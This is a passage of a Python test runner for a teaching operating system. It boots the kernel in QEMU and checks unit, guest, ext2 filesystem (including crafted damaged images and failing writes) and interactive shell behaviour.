#!/usr/bin/env python3
"""tools/test.py - everything `make test` runs, in parallel on every core.

  host unit tests   build/hosttest/*: pure kernel code compiled for the host
  kernel tests      boots with test=all: the in-kernel suite (kernel/test/)
  boot checks       the GRUB ISO reaches the banner; a kernel fault panics
                    with a backtrace naming the faulting function
  guest suites      boots running a user test program (user/tests/t_*) as
                    the child of init: each prints PASS/FAIL lines
  ext2 suites       images made by mke2fs -d are read by the guest (e2read);
                    what the guest writes (e2write, e2full) is checked with
                    e2fsck -fn and debugfs on the host
  shell             types command lines into the shell over the serial
                    console and checks what comes back
  grading, course   the grader against a scripted fake QEMU and against real
                    submissions (forged trees, printed results, hangs, hidden
                    tests); the Gradescope package in a simulated root; the
                    course repository's branches, and a student merging
                    through them: each lab 0 before, full marks after
  lab suites        labs not yet on lab.h: the graded tests pass on this
                    tree, and every one of them fails on the handout;
                    every lab: handouts and hand-ins hold nothing
                    instructor-only and no solution they should not
  docs              no boot: every system call has a manual page, each
                    SYNOPSIS is its header's prototype, and the docs name
                    only make targets, files, functions, tests and
                    constants that exist, as they are
  mutant suites     each lab's tests catch a sample of its wrong solutions
                    (tools/mutants.py; that they pass with the later labs
                    stubbed is the course suite's student check), and the
                    guest suites a sample of wrong kernels (tools/kmutants.py)

Each result is printed as it arrives: PASS/FAIL, its name, its time. The
last line is `N passed, M failed`; the exit status is 1 if anything failed.
`tools/test.py NAME...` runs only the suites whose name contains NAME."""
import concurrent.futures
import glob
import hashlib
import json
import os
import queue
import random
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import grade  # noqa: E402
import buildtests  # noqa: E402
import e2craft  # noqa: E402
import handout  # noqa: E402
import kmutants  # noqa: E402
import qemu  # noqa: E402
import shake  # noqa: E402

RESULT = re.compile(r"^(PASS|FAIL) (\S+)(?::\s*(.*))?$", re.M)


def parse_results(prefix, text):
    """PASS/FAIL lines a program printed, as (name, ok, detail) triples."""
    return [(prefix + m.group(2), m.group(1) == "PASS", m.group(3) or "")
            for m in RESULT.finditer(text)]


def tail(text, n=15):
    return "\n".join("      | " + line for line in text.strip().splitlines()[-n:])


# ---------------------------------------------------------------- suites
def host_suite(binary):
    def run():
        name = os.path.basename(binary)
        try:
            p = subprocess.run([binary], capture_output=True, text=True, timeout=60)
        except subprocess.TimeoutExpired:
            return [("host/%s" % name, False, "timed out")]
        res = parse_results("host/%s/" % name, p.stdout)
        if not res or (p.returncode != 0 and all(ok for _, ok, _ in res)):
            res.append(("host/%s" % name, False, "exit %d\n%s" % (p.returncode, tail(p.stdout + p.stderr))))
        return res
    return "host/" + os.path.basename(binary), run


def kernel_suite():
    def run():
        b = qemu.run(qemu.kernel_args("test=all heapcheck panic=exit"), timeout=60)
        res = parse_results("kernel/", b.output)
        done = re.search(r"ktest: (\d+) passed, (\d+) failed", b.output)
        if not done:
            res.append(("kernel/suite_completes", False,
                        "no summary line (timed out: %s)\n%s" % (b.timed_out, tail(b.output))))
        elif b.guest_code != (1 if int(done.group(2)) else 0):
            res.append(("kernel/exit_status_reports_failures", False, "status %s" % b.status))
        return res
    return "kernel", run


def iso_suite():
    def run():
        if os.environ.get("ORTHOS_GRUB") == "no" or not os.path.exists(qemu.ISO):
            return [("boot/grub_iso_shows_banner", None,
                     "no GRUB here (or no `make iso`): the other tests boot with -kernel")]
        b = qemu.run(qemu.base_args() + ["-cdrom", qemu.ISO], timeout=60,
                     until=r"memory: \d+ MiB")
        ok = re.search(r"Orthos \d+\.\d+", b.output) and "memory:" in b.output
        return [("boot/grub_iso_shows_banner", bool(ok),
                 "" if ok else "no banner in %.0fs\n%s" % (b.seconds, tail(b.output)))]
    return "boot/iso", run


def fault_suite():
    def run():
        b = qemu.run(qemu.kernel_args("test=fault heapcheck panic=exit"), timeout=60)
        res = []
        ok = "panic: kernel page fault at 0xdead0000" in b.output
        res.append(("boot/kernel_fault_panics_with_address", ok, "" if ok else tail(b.output)))
        m = re.search(r"backtrace:\n\s+0x[0-9a-f]+ (\w+)\+", b.output)
        ok = bool(m) and m.group(1) == "ktest_fault_deliberately"
        res.append(("boot/panic_backtrace_names_function", ok, "" if ok else tail(b.output)))
        ok = b.status == qemu.PANIC_STATUS
        res.append(("boot/panic_exits_qemu_with_status", ok, "status %s" % b.status))
        # A trap from the kernel pushes no esp or ss: the ones shown are
        # worked out (the stack it was on: the direct map; the kernel's ss),
        # not the two words past the frame.
        m = re.search(r"cs 0008 esp ([0-9a-f]{8}) ss ([0-9a-f]{4})", b.output)
        ok = bool(m) and 0xC0000000 <= int(m.group(1), 16) < 0xC0000000 + 0x38000000 and \
            m.group(2) == "0010"
        res.append(("boot/kernel_fault_shows_its_own_stack_pointer", ok,
                    "" if ok else tail(b.output)))
        return res
    return "boot/fault", run


# What the kernel itself must print during a guest suite: (test, regex).
CONSOLE_EXPECT = {
    "t_proc": [
        ("user_fault_message_names_process_address_and_eip",
         r"pid \d+ \(t_proc\): page fault at 0x00000000 \(write not present, eip 0x[0-9a-f]{8}\)"
         r": killed"),
        ("illegal_instruction_message", r"pid \d+ \(t_proc\): invalid opcode \(eip 0x[0-9a-f]{8}\)"),
        ("int3_message_says_breakpoint", r"pid \d+ \(t_proc\): breakpoint \(eip 0x[0-9a-f]{8}\)"),
        ("into_message_says_overflow", r"pid \d+ \(t_proc\): overflow \(eip 0x[0-9a-f]{8}\)"),
    ],
}


def declared_tests(src):
    """The tests a guest program declares: each function of src whose body
    has a PASS() (check.h reports under the function's own name)."""
    try:
        text = open(src).read()
    except OSError:
        return []
    return sorted([m.group(1) for m in re.finditer(
        r"^(?:static )?(?:void|int) (\w+)\([^)]*\)\n\{\n(.*?)^\}", text, re.S | re.M)
        if re.search(r"\bPASS\(\)", m.group(2))] +
        ["%s_%s_%s" % t for t in expected_errors(text)])


def expected_errors(text):
    """The (page, errno, what) triples a guest program checks with t_errno.c's
    EXPECT(page, EXXX, what, call) and EXPECT_NULL, reported as
    page_EXXX_what; a macro whose body EXPECTs (NAME_ERRORS(page, call))
    counts as its EXPECTs for that page."""
    expect = re.compile(r"\bEXPECT(?:_NULL)?\(\s*(\w+),\s*(E[A-Z0-9]+),\s*(\w+),")
    found = [m.groups() for m in expect.finditer(text)]
    for name, body in re.findall(r"^#define (\w+)\(page, \w+\)((?:.*\\\n)*.*)$", text, re.M):
        for use in re.findall(r"\b%s\(\s*(\w+)," % name, text):
            found += [(use, err, what) for page, err, what in expect.findall(body) if page == "page"]
    return [t for t in found if t[0] != "page"]


def unreported(prog, res, src):
    """A FAIL for each test src declares that printed no result at all: a
    test that ends its process early (an exec that should have failed, a
    crash in a child) must not simply drop out of the count."""
    seen = {name.split("/")[1] for name, _, _ in res}
    return [("%s/%s" % (prog, t), False, "never reported a result (its process ended first?)")
            for t in declared_tests(src) if t not in seen]


# Boot arguments a guest suite needs: t_attack10, t_attack11 and t_tty see
# a pid come back after a few hundred forks (its PIDMAX), not 2^28.
GUEST_ARGS = {"t_attack10": "pidmax=300", "t_attack11": "pidmax=300", "t_tty": "pidmax=300"}


def guest_suite(prog, timeout=120, disks=None, extra=""):
    """Boot with init running /bin/<prog> and powering off with its status."""
    def run():
        b = qemu.run(qemu.kernel_args("heapcheck panic=exit %s run=/bin/%s" % (extra, prog), disks),
                     timeout=timeout)
        res = parse_results("%s/" % prog, b.output)
        res += unreported(prog, res, os.path.join(qemu.ROOT, "user", "tests", prog + ".c"))
        for name, regex in CONSOLE_EXPECT.get(prog, []):
            ok = re.search(regex, b.output) is not None
            res.append(("%s/%s" % (prog, name), ok, "" if ok else "console lacks /%s/" % regex))
        if "panic:" in b.output:
            res.append(("%s/kernel_did_not_panic" % prog, False, tail(b.output, 25)))
        if b.guest_code is None or not re.search(r"^%s: done" % prog, b.output, re.M):
            res.append(("%s/suite_completes" % prog, False,
                        "status %s, timed out %s\n%s" % (b.status, b.timed_out, tail(b.output))))
        return res
    return prog, run


def dos_small_suite():
    """t_dos at -m 16M (`t_dos small`: the tests whose numbers fit there).
    Root's reserve is a sixteenth of memory but at least ROOT_MIN_PAGES
    (pmm.c): at 16 MiB a sixteenth was too little for root to work while
    users held the rest, and each user's share must still leave another
    user room (doc/decisions.md, "One user's pages")."""
    def run():
        b = qemu.run(qemu.kernel_args("heapcheck panic=exit run=/bin/t_dos small", memory="16M"),
                     timeout=120)
        res = parse_results("t_dos_16M/", b.output)
        if len(res) < 6:
            res.append(("t_dos_16M/reports_its_tests", False, "%d results\n%s" % (len(res), tail(b.output))))
        if "panic:" in b.output:
            res.append(("t_dos_16M/kernel_did_not_panic", False, tail(b.output, 25)))
        if b.guest_code is None or not re.search(r"^t_dos: done", b.output, re.M):
            res.append(("t_dos_16M/suite_completes", False,
                        "status %s, timed out %s\n%s" % (b.status, b.timed_out, tail(b.output))))
        return res
    return "t_dos_16M", run


# ---------------------------------------------------------------- ext2
SBIN_PATH = os.environ.get("PATH", "") + ":/sbin:/usr/sbin"


def e2tool(*args):
    """Run an e2fsprogs tool (they live in /sbin on Debian)."""
    return subprocess.run(list(args), capture_output=True, env=dict(os.environ, PATH=SBIN_PATH),
                          timeout=120)


def make_sample_tree(root):
    """A tree that exercises the reader: small, large, sparse and empty
    files, a file past the triple-indirect boundary (1 KiB blocks), a
    directory with hundreds of entries, a deep chain, fast and slow
    symlinks. Returns the MANIFEST text (also written into the tree)."""
    rnd = random.Random(1970)
    lines = []

    def put(rel, data):
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        lines.append("f %s %d %08x" % (rel, len(data), zlib.crc32(data)))

    for i in range(30):
        put("small/s%02d" % i, bytes(rnd.getrandbits(8) for _ in range(rnd.randrange(0, 3000))))
    put("empty", b"")
    put("twelve_blocks", bytes(rnd.getrandbits(8) for _ in range(12 * 1024)))
    put("large", rnd.randbytes(3 * 1024 * 1024 + 17))
    for name, size, pieces in (("sparse", 10 << 20, [(100 << 10, b"middle"), ((10 << 20) - 3, b"end")]),
                               ("beyond_triple", 70 << 20, [(69 << 20, b"far away")])):
        path = os.path.join(root, name)
        data = bytearray()
        with open(path, "wb") as f:
            f.truncate(size)
            for off, chunk in pieces:
                f.seek(off)
                f.write(chunk)
        crc, pos = 0, 0
        for off, chunk in pieces:   # CRC of the whole file, holes as zeros
            crc = zlib.crc32(bytes(off - pos), crc)
            crc = zlib.crc32(chunk, crc)
            pos = off + len(chunk)
        crc = zlib.crc32(bytes(size - pos), crc)
        del data
        lines.append("f %s %d %08x" % (name, size, crc))
    for i in range(300):
        put("crowd/entry_%03d" % i, b"%d\n" % i)
    lines.append("d crowd 300")
    deep = "/".join("level%02d" % i for i in range(25))
    put(deep + "/bottom", b"at the bottom\n")
    lines.append("d %s 1" % deep)
    os.symlink("large", os.path.join(root, "fastlink"))
    lines.append("l fastlink large")
    long_target = deep + "/bottom"
    os.symlink(long_target, os.path.join(root, "slowlink"))
    lines.append("l slowlink " + long_target)
    lines.append("d small 30")
    text = "\n".join(lines) + "\n"
    with open(os.path.join(root, "MANIFEST"), "w") as f:
        f.write(text)
    return text


def mkfs(image, size_mb, block, tree=None):
    open(image, "wb").close()
    args = ["mke2fs", "-q", "-F", "-t", "ext2", "-b", str(block)]
    if tree:
        args += ["-d", tree]
    r = e2tool(*(args + [image, "%dM" % size_mb]))
    if r.returncode != 0:
        raise RuntimeError("mke2fs: " + r.stderr.decode())


def fsck_result(name, image):
    r = e2tool("e2fsck", "-fn", image)
    ok = r.returncode == 0
    return (name, ok, "" if ok else tail((r.stdout + r.stderr).decode(), 20))


def debugfs_matches_manifest(name, image, manifest):
    """Every 'f' line of manifest, read back from image by the host's debugfs."""
    with tempfile.TemporaryDirectory() as tmp:
        for line in manifest.splitlines():
            parts = line.split()
            if len(parts) != 4 or parts[0] != "f":
                continue
            out = os.path.join(tmp, "out")
            e2tool("debugfs", "-R", "dump /%s %s" % (parts[1], out), image)
            try:
                data = open(out, "rb").read()
            except OSError:
                return (name, False, "debugfs could not read /%s" % parts[1])
            if len(data) != int(parts[2]) or "%08x" % zlib.crc32(data) != parts[3]:
                return (name, False, "/%s: host reads %d bytes crc %08x, guest wrote %s %s"
                        % (parts[1], len(data), zlib.crc32(data), parts[2], parts[3]))
            os.unlink(out)
    return (name, True, "")


def boot_with_disk(prog, image, timeout=240, more=(), until=None):
    """prog booted with image as /dev/hd1 (init attaches it at /mnt) and
    the images in `more` as /dev/hd2, hd3 (attached nowhere). until: a
    regex of the output at which QEMU is killed (no poweroff)."""
    b = qemu.run(qemu.kernel_args("heapcheck panic=exit run=/bin/%s" % prog,
                                  [None, image] + list(more)),
                 timeout=timeout, until=until)
    prog = prog.split()[0]
    res = parse_results("%s/" % prog, b.output)
    if (b.guest_code is None and not until) or not re.search(r"^%s: done" % prog, b.output, re.M):
        res.append(("%s/suite_completes" % prog, False,
                    "status %s, timed out %s\n%s" % (b.status, b.timed_out, tail(b.output))))
    return b, res


def sb_state(image):
    """The superblock's s_state (1 valid, 2 errors found; 0: a writable
    instance's machine stopped before its end) and s_mnt_count."""
    with open(image, "rb") as f:
        f.seek(1024 + 52)
        count, _, _, state = struct.unpack("<HHHH", f.read(8))
    return state, count


def e2fsck_preen_says(name, image, state, count, clean):
    """image's state and mount count, and what e2fsck -p (run on a copy:
    it would mend the state) says of it: "clean" without a look, or that
    it checks it ("was not cleanly unmounted, check forced")."""
    got = sb_state(image)
    with tempfile.TemporaryDirectory() as tmp:
        shutil.copy(image, os.path.join(tmp, "copy.img"))
        r = e2tool("e2fsck", "-p", os.path.join(tmp, "copy.img"))
    text = (r.stdout + r.stderr).decode()
    said = "clean," in text if clean else "not cleanly unmounted, check forced" in text
    ok = got == (state, count) and said
    return (name, ok, "" if ok else "s_state %d, s_mnt_count %d (want %d, %d); e2fsck -p: %s"
            % (got + (state, count, text.strip())))


def mount_check_quiet(name, output):
    """The kernel's whole-disk check at fsopen (ext2check.c) must call a
    healthy image, and one Orthos wrote, healthy: no line of its."""
    said = re.findall(r"^ext2: .*(?:read-only; run e2fsck|too big to check.*)$", output, re.M)
    return (name + "/the_mount_check_calls_the_disk_healthy", not said, "\n".join(said))


def ext2_read_suite(block):
    name = "ext2_read_%dk" % (block // 1024)

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            tree, image = os.path.join(tmp, "tree"), os.path.join(tmp, "disk.img")
            make_sample_tree(tree)
            mkfs(image, 96, block, tree)
            b, res = boot_with_disk("e2read", image)
            res = [(n.replace("e2read/", name + "/"), ok, d) for n, ok, d in res]
            res.append(mount_check_quiet(name, b.output))
            res.append(fsck_result(name + "/e2fsck_clean_after_guest", image))
            return res
    return name, run


def ext2_write_suite(block=1024):
    """e2write on a fresh image of 1 KiB blocks (ext2_write) or another
    size (ext2_write_4k: one indirect block maps 1024 blocks, not 256, and
    a directory block holds four times the entries)."""
    name = "ext2_write" + ("" if block == 1024 else "_%dk" % (block // 1024))

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            image = os.path.join(tmp, "disk.img")
            mkfs(image, 100, block)
            b, res = boot_with_disk("e2write", image)
            res = [(n.replace("e2write/", name + "/"), ok, d) for n, ok, d in res]
            res.append(mount_check_quiet(name, b.output))
            # Whatever the firmware (the tests' qboot gives the IDE bus
            # master no address: ata.c does), the disk moves its data by DMA.
            res.append((name + "/the_disk_does_dma", re.search(
                r"^hd1: \d+ KiB, QEMU HARDDISK, DMA$", b.output, re.M) is not None,
                tail(b.output)))
            res.append(fsck_result(name + "/e2fsck_clean_after_guest_writes", image))
            # init's instance of the disk, writable, was counted at its mount
            # and left clean by poweroff: e2fsck -p need not look.
            res.append(e2fsck_preen_says(name + "/poweroff_leaves_a_counted_mount_clean", image,
                                         1, 1, True))
            r = e2tool("debugfs", "-R", "cat /MANIFEST", image)
            manifest = r.stdout.decode()
            if "f big " not in manifest:
                res.append((name + "/guest_left_a_manifest", False, tail(manifest)))
                return res
            res.append(debugfs_matches_manifest(name + "/debugfs_reads_back_guest_data", image,
                                                manifest))
            # The next boot must find everything the first one wrote; it is
            # killed at its end, /mnt writable: e2fsck -p must check the image.
            b, again = boot_with_disk("e2read stay", image, until=r"(?m)^e2read: done")
            res += [(n.replace("e2read/", name + "/next_boot/"), ok, d) for n, ok, d in again]
            res.append(mount_check_quiet(name + "/next_boot", b.output))
            res.append(e2fsck_preen_says(name + "/a_killed_guest_leaves_its_image_not_clean",
                                         image, 0, 2, False))
            return res
    return name, run


def ext2_full_suite():
    name = "ext2_full"

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            image = os.path.join(tmp, "disk.img")
            mkfs(image, 2, 1024)
            _, res = boot_with_disk("e2full", image)
            res = [(n.replace("e2full/", name + "/"), ok, d) for n, ok, d in res]
            res.append(fsck_result(name + "/e2fsck_clean_after_enospc", image))
            return res
    return name, run


# What e2fsck -fn may say of an image a failing disk left where a leak is
# allowed (doc/decisions.md, "ext2 on a failing disk, second part"): blocks
# and inodes taken that nothing names - bitmap differences of '-' only, a
# deleted inode left taken (zero dtime), a whole new file or directory no
# name reaches (unattached, unconnected: e2fsck offers lost+found) - and
# the counts that follow from them: the groups', the superblock's, an
# i_blocks or a link count too high. Anything else - a block named and
# free ('+'), two files on one block, a count lower than the names, a bad
# entry, a size - is not a leak.
E2FSCK_LEAK_LINES = [
    r"Pass \d+[A-Z]?: .*", r"(Fix|Clear)\? no", r"e2fsck [\d.]+ \(.*\)",
    r"(Block|Inode) bitmap differences: +(-\(?\d+(--\d+\))? *)+",
    r"Free (blocks|inodes) count wrong( for group #\d+)? \(\d+, counted=\d+\)\.",
    r"Directories count wrong for group #\d+ \(\d+, counted=\d+\)\.",
    r"Deleted inode \d+ has zero dtime\.  Fix\? no",
    r"Inode \d+, i_blocks is \d+, should be \d+\.  Fix\? no",
    r"Inode \d+ ref count is \d+, should be \d+\.  Fix\? no",
    r"Unattached inode \d+", r"Unattached zero-length inode \d+\.  Clear\? no",
    r"Connect to /lost\+found\? no", r"Unconnected directory inode \d+ \(was in .*\)",
    r"'\.\.' in \.\.\. \(\d+\) is .* \(\d+\), should be <The NULL inode> \(0\)\.",
    r".*: \*+ WARNING: Filesystem still has errors \*+", r".*: \d+/\d+ files .*",
]


def e2fsck_leaks_only(text):
    """The lines of e2fsck -fn's output that are not a leak's (empty: none)."""
    bad = []
    for line in text.splitlines():
        line = line.strip()
        if line and not any(re.fullmatch(p, line) for p in E2FSCK_LEAK_LINES):
            bad.append(line)
    for m in re.finditer(r"(i_blocks|ref count) is (\d+), should be (\d+)", text):
        if int(m.group(2)) < int(m.group(3)):
            bad.append(m.group(0) + " (fewer than there are)")
    return bad


def ext2_eio_suite():
    """e2eio: each ext2 operation that takes a block or an inode, with each
    of its writes to the disk failing in turn (failnth(FAILNTH_WRITES | n)),
    on images in the guest's /tmp; it keeps each image a failure left on a
    carrier disk (/mnt/eio), and e2fsck -fn must find every one clean: no
    block or inode leaked, no count wrong, no block past a size. The images
    a failed free left (free*) and those of a disk failing for good
    (FAILNTH_FROM: from*) may leak, and nothing more (e2fsck_leaks_only).
    A 2 MiB ext2 image as /dev/hd2 takes the block cache's write-backs
    failing at an instance's release and at evictions; the console must
    say them, and e2fsck find that image clean."""
    name = "ext2_eio"

    def fsck(img):
        r = e2tool("e2fsck", "-fn", img)
        return os.path.basename(img), r.returncode, (r.stdout + r.stderr).decode()

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            carrier, out = os.path.join(tmp, "carrier.img"), os.path.join(tmp, "out")
            wb = os.path.join(tmp, "writeback.img")   # /dev/hd2: the release's write-back
            mkfs(carrier, 160, 1024)
            mkfs(wb, 2, 1024)
            b, res = boot_with_disk("e2eio", carrier, timeout=300, more=[wb])
            res = [(n.replace("e2eio/", name + "/"), ok, d) for n, ok, d in res]
            # A write-back the disk refused at an instance's release is said:
            # the cache names the unit and the block, ext2 the instance, both
            # the failure that a retry mended and the one that stayed.
            said = [p for p in (r"^bcache: hd2: write of block \d+ .* failed \(error -5\): "
                                r"kept dirty$",
                                r"^ext2: /dev/hd2: a write-back failed \(error -5\); "
                                r"written at release$",
                                r"^ext2: /dev/hd2: the last write-back failed \(error -5\)")
                    if not re.search(p, b.output, re.M)]
            res.append((name + "/a_failed_write_back_at_release_is_said", not said,
                        "not on the console: %s" % said))
            res.append(fsck_result(name + "/e2fsck_clean_after_failed_write_backs", wb))
            # An image that says it has errors, or was not cleanly unmounted,
            # is mounted with a line naming the device; a superblock the disk
            # refuses at the mount leaves a read-only instance, said.
            said = [p for p in (r"^ext2: /dev/hd2: the image was not cleanly unmounted "
                                r"\(state 0\): run e2fsck$",
                                r"^ext2: /dev/hd2: the image says it has errors \(state 3\): "
                                r"run e2fsck$",
                                r"^ext2: /dev/hd2: the disk refused the superblock \(error -5\): "
                                r"read-only$")
                    if not re.search(p, b.output, re.M)]
            res.append((name + "/an_unclean_image_and_a_refused_superblock_are_said", not said,
                        "not on the console: %s" % said))
            # /dev/hd2 attached at poweroff, written, its state 0 then:
            # poweroff leaves it clean, as its last close would.
            m = re.search(r"^e2eio: /dev/hd2 left attached, state (\d+)$", b.output, re.M)
            st = e2fsck_preen_says(name + "/poweroff_leaves_an_attached_image_clean", wb, 1,
                                   sb_state(wb)[1], True)
            res.append((st[0], st[1] and m is not None and m.group(1) == "0",
                        st[2] + ("" if m and m.group(1) == "0" else
                                 "; while attached the state was %s, not 0"
                                 % (m.group(1) if m else "not said"))))
            # (a free the disk fails leaves a damaged image, said so: not before)
            res.append(mount_check_quiet(name, b.output.split("e2eio: frees")[0]))
            os.makedirs(out)
            e2tool("debugfs", "-R", "rdump /eio %s" % out, carrier)
            imgs, seen = [], {}
            for img in sorted(glob.glob(os.path.join(out, "eio", "*.img"))):
                with open(img, "rb") as f:    # (many are alike: each is checked once)
                    key = (os.path.basename(img)[:2], hashlib.sha1(f.read()).digest())
                if key not in seen:
                    seen[key] = img
                    imgs.append(img)
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                checked = list(pool.map(fsck, imgs))
            unclean, leaky, leaks = [], [], 0
            for base, rc, text in checked:
                if base.startswith("op"):
                    if rc != 0:
                        unclean.append("%s:\n%s" % (base, tail(text, 8)))
                    continue
                bad = e2fsck_leaks_only(text) if rc in (0, 4) else ["exit %d" % rc]
                leaks += rc != 0
                if bad:
                    leaky.append("%s:\n%s" % (base, "\n".join(bad[:6])))
            ops = [c for c in checked if c[0].startswith("op")]
            res.append((name + "/e2fsck_clean_after_each_failed_write", bool(ops) and not unclean,
                        "no image kept" if not ops else "\n".join(unclean[:5])))
            res.append((name + "/e2fsck_finds_only_leaks_after_failed_frees_and_a_dead_disk",
                        len(ops) < len(checked) and not leaky,
                        "no image kept" if len(ops) == len(checked) else "\n".join(leaky[:5])))
            print("ext2_eio: %d images kept, %d unlike, %d of them clean, %d leaking only" %
                  (len(glob.glob(os.path.join(out, "eio", "*.img"))), len(checked),
                   len(checked) - leaks - len(unclean), leaks))
            res.append(fsck_result(name + "/e2fsck_clean_carrier", carrier))
            return res
    return name, run


# ---------------------------------------------------------------- ext2: damaged images
# (the ext2 engineer's block: issue 9, findings 6-11)
E2CRAFT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "e2craft.py")


def ext2_damage_suite():
    """Every image tools/e2craft.py can make (damaged ones and undamaged
    geometries) as a file on one carrier disk, attached as /dev/hd1 (init
    puts it at /mnt); e2bad loop mounts each and checks what the kernel
    does. Then e2fsck -fn must find the carrier clean, each healthy_*
    image, which the guest wrote to, clean as well, and each damaged one
    unharmed: compared block by block with the image e2craft made, nothing
    intact changed (e2craft.harm: metadata but for the driver's counts,
    reserved inodes, the files the damage spares)."""
    name = "ext2_damage"

    def run():
        with tempfile.TemporaryDirectory() as tmp:
            imgs, carrier = os.path.join(tmp, "images"), os.path.join(tmp, "carrier.img")
            p = subprocess.run([sys.executable, E2CRAFT, "all", imgs], capture_output=True,
                               text=True, timeout=300)
            if p.returncode != 0:
                return [(name + "/e2craft_makes_the_images", False, tail(p.stdout + p.stderr))]
            size = sum(os.path.getsize(os.path.join(imgs, f)) for f in os.listdir(imgs))
            mkfs(carrier, size // (1 << 20) + 8, 1024, imgs)
            b, res = boot_with_disk("e2bad", carrier, timeout=120)
            res = [(n.replace("e2bad/", name + "/"), ok, d) for n, ok, d in res]
            ok = "panic:" not in b.output
            res.append((name + "/kernel_did_not_panic", ok, "" if ok else tail(b.output, 25)))
            # The mount's check names the first contradiction of each image
            # only a view of the whole disk shows, on one console line.
            unsaid = ["%s: %s" % (f.__name__, e2craft.check_says(f.__name__))
                      for f in e2craft.WHOLE_DISK + e2craft.E2FSCK_MISSES
                      if not re.search(r"^ext2: \S*/%s\.img: %s$" % (
                          f.__name__, re.escape(e2craft.check_says(f.__name__))), b.output, re.M)]
            res.append((name + "/the_mount_check_names_each_contradiction", not unsaid,
                        "not said: " + "; ".join(unsaid) + "\n" + tail(b.output, 30)))
            # ... and e2fsck agrees that each is damaged (exit 4: errors left).
            clean = [f.__name__ for f in e2craft.WHOLE_DISK if e2tool(
                "e2fsck", "-fn", os.path.join(imgs, f.__name__ + ".img")).returncode != 4]
            res.append((name + "/e2fsck_calls_each_damaged", not clean,
                        "e2fsck -fn did not exit 4 for: " + " ".join(clean)))
            res.append(fsck_result(name + "/e2fsck_clean_carrier", carrier))
            for img in sorted(f[:-4] for f in os.listdir(imgs) if f.startswith("healthy_")):
                out = os.path.join(tmp, img + ".out")
                e2tool("debugfs", "-R", "dump /%s.img %s" % (img, out), carrier)
                res.append(fsck_result("%s/e2fsck_clean_after_guest_writes/%s" % (name, img),
                                       out))
            harmed = []
            for img in e2craft.CORRUPTIONS:
                out = os.path.join(tmp, img + ".out")
                e2tool("debugfs", "-R", "dump /%s.img %s" % (img, out), carrier)
                with open(os.path.join(imgs, img + ".img"), "rb") as f, open(out, "rb") as g:
                    harmed += ["%s: %s" % (img, h) for h in e2craft.harm(img, f.read(), g.read())]
            res.append((name + "/nothing_intact_was_harmed", not harmed, "\n".join(harmed[:20])))
            return res
    return name, run


# ---------------------------------------------------------------- the shell
def shell_checker(s, res, prefix):
    """check(name, lines, regex): type each line into the session s and
    append one result to res, named prefix + name: whether regex matches
    what the lines printed. Returns the output (None if a prompt never
    came back)."""
    def check(name, lines, regex, timeout=15):
        out = ""
        for line in lines:
            got = s.run(line, timeout=timeout)
            if got is None:
                res.append((prefix + name, False, "no prompt after %r\n%s" %
                            (line, tail(s.output))))
                return None
            out += got
        ok = re.search(regex, out, re.M) is not None
        res.append((prefix + name, ok, "" if ok else "want /%s/ in:\n%s" %
                    (regex, tail(out, 40))))
        return out
    return check


def shell_suite():
    """Type into the shell over the serial console, as a student would, and
    check what comes back: each check is one named test."""
    def run():
        res = []
        with qemu.Session(qemu.kernel_args("heapcheck panic=exit"), timeout=90) as s:
            if not s.expect(r"\$ $", timeout=30):
                return [("shell/prompt_appears", False, tail(s.output))]

            check = shell_checker(s, res, "shell/")

            if s.run("cd /tmp") is not None:
                res.append(("shell/prompt_shows_the_cwd_after_cd", s.output.endswith("/tmp $ "),
                            tail(s.output, 2)))
            check("pipeline_of_three_stages", ["echo one two three | cat | wc -w"], r"^\s*3\s*$")
            check("redirects_create_append_and_read", ["echo first > /tmp/r",
                                                       "echo second >> /tmp/r", "wc -l < /tmp/r"],
                  r"^\s*2\s*$")
            check("stderr_redirect_2_to_1", ["cat /nonexistent > /tmp/e 2>&1", "cat /tmp/e"],
                  r"nonexistent.*No such file")
            check("exit_status_and_missing_command", ["false", "echo status=$?", "nosuchcmd",
                                                      "echo status=$?"],
                  r"status=1[\s\S]*nosuchcmd: command not found[\s\S]*status=127")
            check("and_or_and_quotes", ["true && echo 'a  b' || echo no",
                                        'false || echo "q $?"'], r"^a  b$[\s\S]*^q 1$")
            out = check("background_job_runs_while_the_shell_goes_on",
                        ["sleep 1 &", "echo right away"], r"^\[\d+\][\s\S]*^right away$")
            if out is not None:
                s.run("sleep 2")
                s.run("echo")
                ok = re.search(r"^\[\d+\] done", s.output[-600:], re.M) is not None
                res.append(("shell/background_job_is_reaped_and_reported", ok, tail(s.output)))
            # ^C kills the foreground job, not the shell.
            s.send("sleep 30\n")
            time.sleep(1.0)
            s.send("\x03")
            ok = s.expect(r"\$ $", timeout=10) is not None
            out = s.run("echo still here") if ok else None
            res.append(("shell/ctrl_c_kills_the_job_not_the_shell",
                        bool(out and "still here" in out), tail(s.output)))
            # ^C at an idle prompt clears the line; the shell lives on.
            s.run("export KEEPME=yes")
            s.send("half a line\x03")
            s.expect(r"\^C\n.*\$ $", timeout=5)   # the line editor echoes it, then prompts again
            out = s.run("echo keep=$KEEPME") or ""
            ok = "keep=yes" in out and "shell exited" not in s.output
            res.append(("shell/ctrl_c_at_the_prompt_only_clears_the_line", ok, tail(s.output)))
            # The fd builtins: a filesystem used by hand, then detached.
            out = check("fd_builtins_fsopen_bind_unbind_walk",
                        ["fsopen ramfs", "mkdir /tmp/m", "bind 3 /tmp/m",
                         "echo kept > /tmp/m/file", "unbind /tmp/m", "cat /tmp/m/file",
                         "walkat 4 file", "ready 5 r", "readfd 6", "fds"],
                        r"^fd 3$[\s\S]*^fd 4$[\s\S]*No such file[\s\S]*^fd 5$[\s\S]*"
                        r"^fd 6$[\s\S]*^kept$[\s\S]*^4 dir path$")
            out = s.run("cat /proc/self/fd") or ""
            fds = re.findall(r"^(\d+) (\w+) (\w+)", out, re.M)
            ok = ("0", "chr", "rw") in fds and all(int(n) < 3 or n == "3" and kind == "reg"
                                                   for n, kind, _ in fds)
            res.append(("shell/children_get_only_stdio_not_the_shells_fds", ok, tail(out)))
            user_program_checks(check)
        return res
    return "shell", run


def user_program_checks(check):
